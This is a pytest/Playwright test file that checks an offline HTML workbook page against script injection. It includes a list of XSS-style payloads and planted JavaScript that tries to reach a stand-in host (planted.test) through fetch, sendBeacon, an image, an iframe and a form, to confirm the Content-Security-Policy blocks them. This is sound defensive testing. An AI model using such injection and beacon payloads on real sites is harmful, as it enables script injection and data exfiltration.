"""The page reaches nobody, runs nothing that was typed, and stays small."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from coopcoach.domain.answers import Answer, TextValue
from coopcoach.domain.exercise import PACKS, Phase
from coopcoach.errors import BadFile
from coopcoach.exchange.web.content import harmless_json
from coopcoach.exchange.web.page import script_parts, workbook_page
from coopcoach.exchange.web.texts import page_texts
from coopcoach.i18n import LANGUAGES, translator
from coopcoach.markup.document import Document
from coopcoach.markup.formats.answers_file import read_answers
from coopcoach.services.partners.import_answers import plan_import
from tests.builders.pdf import form_answers as pdf_examples
from tests.builders.prompts import asking
from tests.exchange.web.browsing import Opened, opened
from tests.exchange.web.workbooks import MADE, Room, room

HOSTILE = [
    "<script>document.title = 'run'</script>",
    "</textarea><img src=x onerror=\"document.title='run'\">",
    "</script><script>document.title = 'run'</script>",
    "<!-- <script> --> ]]> &lt;b&gt; &#13; &amp;#13;",
    "\"double\" 'single' „deutsch“ “englisch” `back` ${1} {{so}} {n}",
    "👍🏽 😀 👩‍👩‍👧 e\u0301 \u202eumgekehrt",
    "Zeile\u2028trennt\u2029hier",
    "### Keine Überschrift {#goal.why}\n---\n- [x] kein Haken {#quiet}",
    "javascript:document.title='run'",
]
LONG = ("Ein langer Satz mit ß und € <b>und</b> „allem“. " * 500)[:20000]


@pytest.mark.parametrize("pack", PACKS)
@pytest.mark.parametrize("lang", LANGUAGES)
def test_it_weighs_less_than_300_kilobytes(tmp_path: Path, lang: str, pack: str) -> None:
    office = room(tmp_path, lang, pack)
    assert office.path.stat().st_size < 300_000


@pytest.mark.parametrize(("lang", "tag"), [("de-du", "de"), ("de-CH-du", "de-CH"), ("en", "en")])
def test_the_page_names_a_language_that_browsers_know(tmp_path: Path, lang: str, tag: str) -> None:
    assert f'<html lang="{tag}">' in room(tmp_path, lang).path.read_text(encoding="utf-8")


def test_hostile_answers_come_back_equal_and_never_run(page: Page, tmp_path: Path) -> None:
    office = room(tmp_path, extra=pdf_examples.workbook("de"))
    seen = opened(page, office.path)
    seen.go("all")
    words = {"all.text": "\n".join(HOSTILE), "all.long": "\n\n".join(HOSTILE), "all.long-2": LONG}
    prompts = {prompt.id: prompt for prompt in office.workbook.exercises[0].prompts}
    for prompt_id, text in words.items():
        seen.fill(prompts[prompt_id], Answer(value=TextValue(text=text)))
    rules = "#q-all-rules-field-0-rule"
    page.locator(rules).fill(" ".join(HOSTILE))
    page.locator("#q-all-number-field").fill(HOSTILE[0])
    # Drawn once more, from the store and on paper.
    page.reload()
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert HOSTILE[0] in page.locator("#paper").inner_text()
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    assert page.locator(rules).input_value() == " ".join(HOSTILE)
    sent = seen.hand_in()
    read = read_answers(
        Document(sent.read_text(encoding="utf-8")), office.workbook, Phase.PREPARE
    ).answers
    assert {key: read[key].value for key in words} == {
        key: TextValue(text=text) for key, text in words.items()
    }
    assert read["all.rules"].value is not None
    assert read["all.number"].remark == HOSTILE[0]
    assert "run" not in page.title()
    assert (seen.fetched, seen.errors) == ([], [])


def test_names_and_exercises_are_text_as_well(page: Page, tmp_path: Path) -> None:
    office = room(tmp_path)
    evil = " ".join(HOSTILE)
    exercise = office.exercises[0]
    prompt = asking(exercise.prompts[1], id="arrive.wish", label=evil)
    prompt = prompt.model_copy(update={"help": evil, "example": evil})
    spoilt = exercise.model_copy(update={"title": evil, "opening": evil, "prompts": (prompt,)})
    workbook = office.workbook.model_copy(update={"exercises": (spoilt,)})
    partner = office.partner.model_copy(update={"name": evil})
    session = office.session.model_copy(update={"title": evil, "coach": evil})
    path = tmp_path / "spoilt.html"
    path.write_text(
        workbook_page(session, partner, workbook, made=MADE, t=translator("de")), encoding="utf-8"
    )
    seen = opened(page, path)
    for place in ("start", spoilt.id, "overview", "hand-in"):
        seen.go(place)
    # What stands as a character in HTML is it on the page as well: nothing became an element.
    assert page.locator("main img, main script, main b").count() == 0
    assert "<img src=x" in page.locator("main").inner_text()
    assert page.title() != "run"
    assert seen.errors == []


PLANTED = {
    "script": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
    "picture": "document.body.append(Object.assign(new Image(), {src: 'http://planted.test/x.png'}))",
    "request": "fetch('http://planted.test/').catch(() => {})",
    "beacon": "navigator.sendBeacon('http://planted.test/', 'x')",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://planted.test/'}))",
    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'http://planted.test/x.css'}))",
    "form": "(f => { document.body.append(f); f.submit() })(Object.assign(document.createElement('form'), {action: 'http://planted.test/'}))",
}
WATCH = "window.refused = []; addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective))"


@pytest.mark.parametrize("name", list(PLANTED))
def test_the_policy_refuses_what_is_planted(anna: Opened, name: str) -> None:
    anna.page.evaluate(WATCH)
    anna.page.evaluate(PLANTED[name])
    refused = anna.page.evaluate(
        "() => new Promise(told => { const look = () => refused.length ? told(refused) : requestAnimationFrame(look); look() })"
    )
    assert refused
    assert anna.page.evaluate("window.ran") is None
    # The browser may tell of what it stopped before it went anywhere.
    assert {anna.blocked.get(url) for url in anna.fetched} <= {"csp"}


def test_without_the_policy_the_same_would_go_out(
    page: Page, workbook: Room, tmp_path: Path
) -> None:
    html = workbook.path.read_text(encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert bare != html
    (tmp_path / "bare.html").write_text(bare, encoding="utf-8")
    seen = opened(page, tmp_path / "bare.html")
    with page.expect_event("requestfailed"):
        page.evaluate(PLANTED["picture"])
    assert seen.fetched == ["http://planted.test/x.png"]
    assert seen.blocked[seen.fetched[0]] != "csp"


def test_without_script_it_says_so_and_shows_the_questions(
    chromium: Browser, workbook: Room
) -> None:
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(workbook.path.as_uri())
    words = page.locator("main").inner_text()
    assert "nehmen Sie das PDF" in words
    for prompt in workbook.prompts:
        assert " ".join(prompt.label.split()) in words
    context.close()


def test_what_stands_in_the_data_cannot_end_it() -> None:
    hard = {"a": "</script><!--<script>\u2028\u2029 & \ud800"}
    text = harmless_json(hard)
    assert not set("<>&\u2028\u2029\ud800") & set(text)
    assert json.loads(text) == hard


def test_the_script_asks_for_every_text_and_for_no_other() -> None:
    source = "\n".join(script_parts().values())
    quoted = set(re.findall(r'"([a-z_-]+)"', source))
    seen_by = {"seen_by_both", "seen_by_coach", "seen_by_me"}
    for lang in LANGUAGES:
        texts = page_texts(translator(lang))
        assert set(texts) <= quoted | seen_by
        asked = set(re.findall(r'\bsay\("([a-z_]+)"', source))
        assert asked <= set(texts)
    german, english = page_texts(translator("de")), page_texts(translator("en"))
    same = {key for key in german if german[key] == english[key]}
    assert same <= {"scale_words", "coach"}


def test_the_script_is_its_own_and_makes_no_markup_of_text() -> None:
    source = "\n".join(script_parts().values())
    for banned in (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "http",
    ):
        assert banned not in source


def test_the_page_sent_back_itself_is_named_as_such(workbook: Room) -> None:
    with pytest.raises(BadFile) as refused:
        plan_import(workbook.workspace, workbook.session.slug, [workbook.path], now=MADE)
    assert "web workbook itself" in refused.value.sentence(translator("en"))
